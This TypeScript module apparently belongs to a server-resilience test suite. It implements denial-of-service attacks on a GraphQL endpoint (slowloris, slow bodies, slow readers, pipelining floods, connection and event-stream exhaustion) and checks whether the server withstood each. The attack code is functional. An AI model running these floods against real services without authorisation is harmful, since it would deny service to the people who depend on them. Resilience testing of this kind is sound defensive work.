import { Agent, request } from 'node:http';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Finding } from '../attack.ts';
import { answerOf } from '../judge.ts';
import type { Victim } from '../victims.ts';
import { head, open, send, untilClosed } from '../wire.ts';

/** How many slow connections attack at once. */
const CONNECTIONS = 400;
/** Enough to read what the system holds for a connection. */
const READ_MS = 2000;
/** More than the system takes off a server's hands for a client that does not read. */
/** As many requests as one caller may have under way, or nearly: what is beyond is refused at once. */
const READERS = 2;
const PIPELINED = 45;
const NODE = '{id certificateArn certificateId status creationDate}';
/** About 400 KB, from memory. */
const LARGE = `{${Array.from({ length: 10 }, (_, place) => `a${place}:caCertificates(first:40){nodes${NODE}edges{cursor node${NODE}}}`).join(' ')}}`;
const slowWithstood = (connections: number, seconds: number): string =>
  `all ${connections} connections are closed within ${seconds} s`;

/** Opens many connections, does something with each, and waits for the server to close them. */
async function hold(
  victim: Victim,
  { connections, seconds }: { connections: number; seconds: number },
  begin: (socket: Socket) => void,
  trickle?: (socket: Socket) => void,
): Promise<Finding> {
  const sockets = Array.from({ length: connections }, () => {
    const socket = open(victim);
    socket.once('connect', () => begin(socket));
    return socket;
  });
  const drip = setInterval(() => {
    for (const socket of sockets) if (socket.writable) trickle?.(socket);
  }, 1000);
  try {
    const startMs = performance.now();
    await untilClosed(sockets, seconds * 1000);
    const took = ((performance.now() - startMs) / 1000).toFixed(0);
    // Who does not read learns of the end only when it reads.
    for (const socket of sockets) socket.resume();
    const left = await untilClosed(sockets, READ_MS);
    return left > 0
      ? { problems: [`${left} of ${connections} are still open after ${seconds} s`], note: '' }
      : { problems: [], note: `all closed within ${took} s` };
  } finally {
    clearInterval(drip);
    for (const socket of sockets) socket.destroy();
  }
}

const QUERY = JSON.stringify({ query: '{caCertificates(first:1){nodes{certificateId}}}' });

/** Connections that take long on purpose, so many of each kind. */
export const slowAttacks = (connections: number): readonly Attack[] => [
  {
    name: 'Silent connections',
    group: 'connections',
    does: `${connections} connections that say nothing`,
    withstood: slowWithstood(connections, 12),
    boundMs: 20_000,
    isWaiting: true,
    run: (victim) => hold(victim, { connections, seconds: 12 }, (socket) => socket.resume()),
  },
  {
    name: 'Slow headers',
    group: 'connections',
    does: `${connections} requests whose headers come a byte a second (slowloris)`,
    withstood: slowWithstood(connections, 12),
    boundMs: 20_000,
    isWaiting: true,
    run: (victim) =>
      hold(
        victim,
        { connections, seconds: 12 },
        (socket) => {
          socket.resume();
          socket.write(`${head(victim, 'POST /graphql')}x-slow: `);
        },
        (socket) => socket.write('a'),
      ),
  },
  {
    name: 'Slow bodies',
    group: 'connections',
    does: `${connections} requests whose bodies come a byte a second`,
    withstood: slowWithstood(connections, 22),
    boundMs: 30_000,
    isWaiting: true,
    run: (victim) =>
      hold(
        victim,
        { connections, seconds: 22 },
        (socket) => {
          socket.resume();
          const headers = {
            'content-type': 'application/json',
            'content-length': '10000',
            ...victim.reader,
          };
          socket.write(`${head(victim, 'POST /graphql', headers)}\r\n{`);
        },
        (socket) => socket.write(' '),
      ),
  },
  {
    name: 'Slow readers',
    group: 'connections',
    does: `${READERS} connections that ask for ${(READERS * PIPELINED * 0.4).toFixed(0)} MB in ${PIPELINED} pipelined queries each and read nothing`,
    withstood: `all ${READERS} connections are closed within 40 s`,
    // Not beside others: what it makes a server do takes the processors.
    boundMs: 48_000,
    async run(victim) {
      await send(victim, { headers: victim.reader, body: { query: LARGE } });
      const body = JSON.stringify({ query: LARGE });
      const headers = {
        'content-type': 'application/json',
        'content-length': String(Buffer.byteLength(body)),
        ...victim.reader,
      };
      const requests = `${head(victim, 'POST /graphql', headers)}\r\n${body}`.repeat(PIPELINED);
      return hold(victim, { connections: READERS, seconds: 40 }, (socket) => {
        socket.pause();
        socket.write(requests);
      });
    },
  },
];

const floods: readonly Attack[] = [
  {
    name: 'Pipelining',
    group: 'connections',
    does: '20,000 requests written at once on one connection',
    withstood: 'others are answered meanwhile',
    boundMs: 15_000,
    async run(victim) {
      const socket = open(victim);
      let bytes = 0;
      socket.on('data', (part) => {
        bytes += part.length;
      });
      const headers = {
        'content-type': 'application/json',
        'content-length': String(Buffer.byteLength(QUERY)),
        ...victim.reader,
      };
      const one = `${head(victim, 'POST /graphql', headers)}\r\n${QUERY}`;
      socket.write(one.repeat(20_000));
      await untilClosed([socket], 5000);
      socket.destroy();
      return { problems: [], note: `${Math.round(bytes / 1024)} KiB answered in 5 s at most` };
    },
  },
  {
    name: 'Flood of one caller',
    group: 'connections',
    does: 'one caller sends as many small queries as 40 connections carry, for 3 s',
    withstood: 'the flood is limited: 429 with Retry-After',
    boundMs: 12_000,
    async run(victim) {
      const agent = new Agent({ keepAlive: true, maxSockets: 40 });
      const endMs = performance.now() + 3000;
      const tally = new Map<number, number>();
      let retryAfter: string | undefined;
      const loop = async (lane: number): Promise<void> => {
        for (let turn = 0; performance.now() < endMs; turn += 1) {
          const { status, wait } = await ask(victim, agent, `q${(lane + turn) % 5}`);
          tally.set(status, (tally.get(status) ?? 0) + 1);
          retryAfter ??= wait;
          if (status === 429) await sleep(5);
        }
      };
      await Promise.all(Array.from({ length: 40 }, (_, lane) => loop(lane)));
      agent.destroy();
      const note = [...tally].map(([status, count]) => `${count} times ${status}`).join(', ');
      const isLimited = (tally.get(429) ?? 0) > 0 && retryAfter !== undefined;
      return { problems: isLimited ? [] : ['no request was limited'], note };
    },
  },
];

function ask(
  victim: Victim,
  agent: Agent,
  name: string,
): Promise<{ readonly status: number; readonly wait: string | undefined }> {
  return new Promise((resolve) => {
    const sent = request(
      {
        ...{ host: victim.host, port: victim.port, path: '/graphql', method: 'POST', agent },
        headers: { 'content-type': 'application/json', ...victim.reader },
      },
      (response) => {
        response.resume();
        response.on('end', () =>
          resolve({ status: response.statusCode ?? 0, wait: response.headers['retry-after'] }),
        );
        response.on('error', () => resolve({ status: 0, wait: undefined }));
      },
    );
    sent.on('error', () => resolve({ status: 0, wait: undefined }));
    sent.end(JSON.stringify({ query: `query ${name}{caCertificates(first:5){nodes{id}}}` }));
  });
}

/** As many connections as the gateway takes. */
const ALL_CONNECTIONS = 1000;
const PAGE = { gateway: '/assets/large.js', stock: '/' } as const;

/** What tries to take all connections, or what each of them costs. */
const exhaustion: readonly Attack[] = [
  {
    name: 'Abandoned downloads',
    group: 'connections',
    does: '100 connections ask 64 times each for the largest file of the page, read nothing and leave, three times',
    withstood: 'nothing that was opened for them stays open',
    boundMs: 20_000,
    async run(victim) {
      const before = victim.descriptors();
      const asked = `${head(victim, `GET ${PAGE[victim.kind]}`, { accept: 'text/html' })}\r\n`;
      for (let round = 0; round < 3; round += 1) {
        const sockets = Array.from({ length: 100 }, () => {
          const socket = open(victim);
          socket.pause();
          socket.write(asked.repeat(64));
          return socket;
        });
        await sleep(READ_MS);
        for (const socket of sockets) socket.resetAndDestroy();
      }
      await sleep(READ_MS);
      const more = victim.descriptors() - before;
      // The other caller comes and goes.
      return more > 5
        ? { problems: [`${more} more descriptors are open than before`], note: '' }
        : { problems: [], note: 'none is open' };
    },
  },
  {
    name: 'Slow bodies to nowhere',
    group: 'connections',
    does: `${ALL_CONNECTIONS} requests without credentials to a path that is not there, whose bodies do not come; who is cut comes again`,
    withstood: 'others are answered meanwhile',
    boundMs: 20_000,
    async run(victim) {
      const headers = { 'content-type': 'application/json', 'content-length': '10000' };
      const begin = `${head(victim, 'POST /nope', headers)}\r\n{`;
      let cut = 0;
      let isOver = false;
      const sockets = new Set<Socket>();
      const take = (): void => {
        const socket = open(victim);
        sockets.add(socket);
        socket.resume().write(begin);
        socket.once('close', () => {
          sockets.delete(socket);
          cut += 1;
          if (!isOver) setTimeout(take, 100);
        });
      };
      for (let count = 0; count < ALL_CONNECTIONS; count += 1) {
        take();
        if (count % 100 === 99) await sleep(50);
      }
      await sleep(10_000);
      isOver = true;
      const note = `${cut} were cut`;
      for (const socket of sockets) socket.destroy();
      return { problems: [], note };
    },
  },
  {
    name: 'Streams of one caller',
    group: 'connections',
    does: `one caller opens ${ALL_CONNECTIONS} streams of events of one plan`,
    withstood: 'it gets 50 at most, and others are answered meanwhile',
    boundMs: 20_000,
    async run(victim) {
      const plan = await send(victim, {
        headers: victim.operator,
        body: { query: 'mutation{planDetach(input:{filter:{}}){plan{id}}}' },
      });
      const id = /"id":("[^"]+")/.exec(plan.text)?.[1] ?? '"none"';
      const body = JSON.stringify({ query: `subscription{bulkOperation(id:${id}){state}}` });
      const headers = {
        'content-type': 'application/json',
        'content-length': String(Buffer.byteLength(body)),
        accept: 'text/event-stream',
        ...victim.follower,
      };
      const tally = new Map<string, number>();
      const sockets: Socket[] = [];
      for (let count = 0; count < ALL_CONNECTIONS; count += 1) {
        const socket = open(victim);
        socket.once('data', (part) => {
          const status = String(part).split(' ')[1] ?? '';
          tally.set(status, (tally.get(status) ?? 0) + 1);
        });
        socket.write(`${head(victim, 'POST /graphql', headers)}\r\n${body}`);
        sockets.push(socket);
        if (count % 50 === 49) await sleep(50);
      }
      await sleep(5000);
      for (const socket of sockets) socket.destroy();
      const streams = tally.get('200') ?? 0;
      const note = [...tally].map(([status, count]) => `${count} times ${status}`).join(', ');
      return { problems: streams > 50 ? [`it got ${streams} streams`] : [], note };
    },
  },
];

/** Known attacks on connections. */
export const connectionAttacks: readonly Attack[] = [
  ...floods,
  ...exhaustion,
  ...slowAttacks(CONNECTIONS),
];

/** Shared with the other lists: whether a text is a whole answer with data. */
export function isWhole(status: number, text: string): boolean {
  const { data } = answerOf({ status, headers: {}, text, ms: 0 });
  return status === 200 && data !== undefined && data !== null;
}
